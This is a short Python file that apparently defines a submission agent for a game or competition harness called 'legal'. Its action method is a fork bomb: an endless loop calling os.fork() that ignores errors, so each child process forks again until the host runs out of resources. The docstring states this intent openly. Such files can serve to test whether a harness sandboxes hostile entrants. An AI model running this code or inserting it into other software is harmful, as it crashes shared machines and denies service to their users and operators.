# SPDX-License-Identifier: MIT
"""Forks as fast as it can, and so do its children."""
import os

import legal


class Agent(legal.Agent):
    def action(self, **referee):
        while True:
            try:
                os.fork()
            except OSError:
                pass
